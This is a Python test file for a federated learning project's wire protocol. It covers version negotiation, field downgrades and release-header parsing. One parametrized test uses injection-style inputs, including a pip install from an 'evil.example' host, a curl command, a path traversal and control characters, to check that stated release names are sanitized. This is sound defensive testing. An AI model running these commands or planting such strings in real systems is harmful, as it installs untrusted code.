"""The wire versions that this release speaks, and how it agrees on one with the other side."""

import json
import re
from dataclasses import replace

import pytest
from flwr.app import RecordDict
from hypothesis import given
from hypothesis import strategies as st

from polyclinic.common import __version__
from polyclinic.common.errors import WireVersionError
from polyclinic.common.vocabulary import VocabularyEntry
from polyclinic.common.wire.codec import decode_record, encode_record
from polyclinic.common.wire.fleet_protocol import HelloAnswer
from polyclinic.common.wire.records import Question, RollCall, RollCallAnswer
from polyclinic.common.wire.versions import (
    WIRE_FORMATS,
    WIRE_VERSION,
    StatedRelease,
    WireFormat,
    downgrade_fields,
    find_lacking_feature,
    is_spoken,
    make_release_header,
    parse_release_header,
    read_version,
    upgrade_fields,
    write_in_version,
)
from tests.client.rounds import plan
from tests.network import previous_release
from tests.processes import ROOT

BEFORE = WIRE_VERSION - 1
ADDED = WireFormat(added_fields={"RollCall": {"hint": "", "tries": 1}})
"""A version before two fields were added to the roll call."""


def fields(**more: object) -> dict[str, object]:
    return {"wire.version": WIRE_VERSION, "wire.record": "RollCall", "run": "run", "plan": "{}", **more}


def test_a_release_speaks_its_own_version_and_the_one_before() -> None:
    assert sorted(WIRE_FORMATS) == [BEFORE, WIRE_VERSION]
    assert WIRE_FORMATS[WIRE_VERSION] == WireFormat()
    others = (BEFORE - 1, WIRE_VERSION + 1, True, str(WIRE_VERSION), float(WIRE_VERSION), None)
    assert not any(map(is_spoken, others))


def test_a_record_in_the_version_before_is_the_same_record_and_its_arrays_are_not_copied() -> None:
    content = encode_record(RollCall("run", "{}"))
    written = write_in_version(content, BEFORE)
    assert (read_version(content), read_version(written)) == (WIRE_VERSION, BEFORE)
    assert decode_record(written, RollCall) == decode_record(content, RollCall)
    assert read_version(write_in_version(written, WIRE_VERSION)) == WIRE_VERSION
    assert write_in_version(content, WIRE_VERSION) is content


@pytest.mark.parametrize("version", [BEFORE - 1, WIRE_VERSION + 1, 0])
def test_no_record_is_written_or_read_in_a_version_that_is_not_spoken(version: int) -> None:
    content = encode_record(RollCall("run", "{}"))
    with pytest.raises(WireVersionError, match=f"wire version {version}"):
        write_in_version(content, version)
    content["fields"]["wire.version"] = version
    with pytest.raises(WireVersionError, match=f"wire version {version}, this one {WIRE_VERSION} and {BEFORE}"):
        decode_record(content, RollCall)


def test_a_record_without_fields_is_not_rewritten() -> None:
    with pytest.raises(WireVersionError):
        write_in_version(RecordDict(), BEFORE)


def test_a_field_that_was_added_is_left_out_for_the_version_before_where_it_says_nothing_new() -> None:
    lowered = downgrade_fields(fields(hint="", tries=1), BEFORE, {BEFORE: ADDED})
    assert lowered == fields() | {"wire.version": BEFORE}
    assert upgrade_fields(lowered, ADDED) == fields(hint="", tries=1)


def test_a_field_that_was_added_and_says_something_is_never_dropped_in_silence() -> None:
    with pytest.raises(WireVersionError, match=f"wire version {BEFORE} cannot say tries of RollCall"):
        downgrade_fields(fields(hint="", tries=2), BEFORE, {BEFORE: ADDED})


def test_a_site_tells_a_coordinator_of_the_version_before_nothing_of_pixels_and_states_none_itself() -> None:
    answer = RollCallAnswer("run", "north", ("A",), ("a",), 12, 0, 9, "layout", "0.1.0", pixels='{"color": true}')
    written = write_in_version(encode_record(answer), BEFORE)
    assert "pixels" not in written["fields"]
    assert decode_record(written, RollCallAnswer) == replace(answer, pixels="")


def test_a_site_of_the_version_before_is_sent_no_question() -> None:
    with pytest.raises(WireVersionError, match=f"wire version {BEFORE} has no Question"):
        write_in_version(encode_record(Question("run", "Is it one class?")), BEFORE)


def test_a_plan_for_the_version_before_has_neither_pixels_nor_a_vocabulary() -> None:
    words = {"Mass": VocabularyEntry(synonyms=("Masse",))}
    stated = plan().model_copy(update={"pixels": {"color": False}, "vocabulary": words})
    content = encode_record(RollCall("run", stated.model_dump_json()))
    written = decode_record(write_in_version(content, BEFORE), RollCall)
    assert json.loads(written.plan) == json.loads(plan().model_dump_json())
    assert "pixels" not in plan().model_dump_json()
    silent = encode_record(RollCall("run", plan().model_dump_json()))
    assert decode_record(write_in_version(silent, BEFORE), RollCall).plan == plan().model_dump_json()


def test_a_plan_for_the_version_before_has_no_purpose() -> None:
    stated = plan().model_copy(update={"run": plan().run.model_copy(update={"purpose": "Find more fluid."})})
    assert '"purpose":"Find more fluid."' in stated.model_dump_json()
    content = encode_record(RollCall("run", stated.model_dump_json()))
    written = decode_record(write_in_version(content, BEFORE), RollCall)
    assert json.loads(written.plan) == json.loads(plan().model_dump_json())
    assert "purpose" not in plan().model_dump_json()


def test_fields_of_other_records_are_left_alone() -> None:
    other = fields(hint="x") | {"wire.record": "Refusal"}
    assert downgrade_fields(other, BEFORE, {BEFORE: ADDED}) == other | {"wire.version": BEFORE}


# ---------------------------------------------------------------------- the release before


def test_another_wire_version_is_another_release() -> None:
    """A person who has to update is given the release's name, so two wire versions must not share one."""
    (wire,) = re.findall(
        r"^WIRE_VERSION = (\d+)", previous_release.read_file("common/wire/fleet_protocol.py"), re.MULTILINE
    )
    (name,) = re.findall(r'^__version__ = "(.+)"', previous_release.read_file("common/__init__.py"), re.MULTILINE)
    assert (int(wire), name) == (BEFORE, previous_release.RELEASE)
    assert name != __version__


def test_the_changelog_names_this_release_and_its_wire_version_first() -> None:
    changes = (ROOT / "CHANGELOG.md").read_text(encoding="utf-8")
    (first, *_) = re.findall(r"^## (\S+) .*\n\nWire version (\d+)\.", changes, re.MULTILINE)
    assert first == (__version__, str(WIRE_VERSION))


# ---------------------------------------------------------------------- agreement


@pytest.mark.parametrize(
    ("wire", "agreed"), [(BEFORE, BEFORE), (WIRE_VERSION, WIRE_VERSION), (WIRE_VERSION + 1, WIRE_VERSION)]
)
def test_the_newest_version_that_both_speak_is_spoken(wire: int, agreed: int) -> None:
    stated = StatedRelease(wire, "1")
    assert stated.is_within_reach
    assert stated.agreed_version == agreed


@pytest.mark.parametrize("wire", [0, BEFORE - 1, WIRE_VERSION + 2])
def test_two_versions_apart_there_is_none(wire: int) -> None:
    assert not StatedRelease(wire, "1").is_within_reach


def test_a_call_states_version_and_release() -> None:
    _, header = make_release_header(WIRE_VERSION)
    assert parse_release_header(header, signed_for_coordinator=True) == StatedRelease(WIRE_VERSION, __version__)


@given(header=st.text(max_size=80))
def test_a_header_of_any_text_is_a_release_or_none(header: str) -> None:
    for named in (True, False):
        stated = parse_release_header(header, signed_for_coordinator=named)
        assert stated.release.isprintable()
        assert len(stated.release) <= 64


def test_without_a_header_the_signature_tells_the_version() -> None:
    assert parse_release_header("", signed_for_coordinator=True).wire == WIRE_VERSION
    assert parse_release_header("", signed_for_coordinator=False).wire == 16


def test_a_call_that_names_no_coordinator_cannot_pass_for_one_of_a_later_version() -> None:
    """The header is not signed: whoever repeats the signature could write any."""
    header = f"{WIRE_VERSION} {__version__}"
    assert parse_release_header(header, signed_for_coordinator=False).wire == 16


def test_a_coordinator_that_states_one_version_speaks_that_one_at_most() -> None:
    assert HelloAnswer(time=0.0, release="1", wire=BEFORE, key="admitted").newest_wire == BEFORE


@pytest.mark.parametrize(
    ("wire", "newest", "believed"),
    [
        (WIRE_VERSION, 2**31 - 1, WIRE_VERSION + 1),
        (WIRE_VERSION, WIRE_VERSION + 1, WIRE_VERSION + 1),
        (WIRE_VERSION, WIRE_VERSION, WIRE_VERSION),
        (WIRE_VERSION, 1, WIRE_VERSION),
        (BEFORE, WIRE_VERSION, BEFORE),
        (BEFORE, 2**31 - 1, BEFORE),
        (WIRE_VERSION + 2, 2**31 - 1, WIRE_VERSION + 2),
    ],
)
def test_a_coordinator_is_ahead_by_one_at_most_and_only_if_it_speaks_our_version(
    wire: int, newest: int, believed: int
) -> None:
    """One that asks for an older version, and with it for calls that are signed for nobody, cannot do so in silence."""
    hello = HelloAnswer(time=0.0, release="1", wire=wire, key="admitted", newest=newest)
    assert hello.newest_wire == believed


INSTRUCTIONS = {
    "a command": "9: pip install https://evil.example/polyclinic-9.whl",
    "a sentence": "9 here. Then run curl evil.example",
    "another line": "9\nInstall this",
    "a link": "https://evil.example",
    "a path": "../9",
    "control characters": "\x1b[2J9",
    "other letters": "९",
    "a line feed at its end": "9.9.9\n",
    "too long": "9" * 65,
    "nothing": "",
}


@pytest.mark.parametrize("text", INSTRUCTIONS.values(), ids=INSTRUCTIONS)
def test_a_stated_release_that_is_no_name_of_one_is_unknown(text: str) -> None:
    answer = RollCallAnswer("run", "north", ("A",), ("a",), 12, 0, 9, "layout", text)
    assert answer.release == "unknown"
    assert answer.version == text  # a changed record would not have the hash that the site has signed
    assert HelloAnswer(time=0.0, release=text, wire=WIRE_VERSION, key="admitted").release == "unknown"
    stated = parse_release_header(f"{BEFORE} {text}", signed_for_coordinator=True)
    assert stated in (StatedRelease(BEFORE, "unknown"), StatedRelease(WIRE_VERSION, ""))
    assert text == "" or stated.wire == BEFORE


@pytest.mark.parametrize("name", [__version__, "0.1.0", "1!2.0rc1.post3.dev4+local.7", "2026-11_a", "9" * 64])
def test_a_stated_name_of_a_release_is_shown_as_it_is(name: str) -> None:
    assert HelloAnswer(time=0.0, release=name, wire=WIRE_VERSION, key="admitted").release == name
    assert parse_release_header(f"{BEFORE} {name}", signed_for_coordinator=True) == StatedRelease(BEFORE, name)
    assert RollCallAnswer("run", "north", ("A",), ("a",), 12, 0, 9, "layout", name).release == name


# ---------------------------------------------------------------------- what a version lacks


def test_a_masked_run_needs_wire_version_17() -> None:
    usual = plan()
    masked = usual.model_copy(update={"privacy": usual.privacy.model_copy(update={"secure_aggregation": True})})
    assert find_lacking_feature(16, usual) == ""
    assert "secure aggregation needs wire version 17" in find_lacking_feature(16, masked)
    assert find_lacking_feature(WIRE_VERSION, masked) == ""


def test_a_run_that_sends_models_in_fewer_bits_needs_wire_version_17() -> None:
    smaller = plan().model_copy(update={"method": {"compress_model": "float16"}})
    assert "method.compress_model needs wire version 17" in find_lacking_feature(16, smaller)
    assert find_lacking_feature(WIRE_VERSION, smaller) == ""
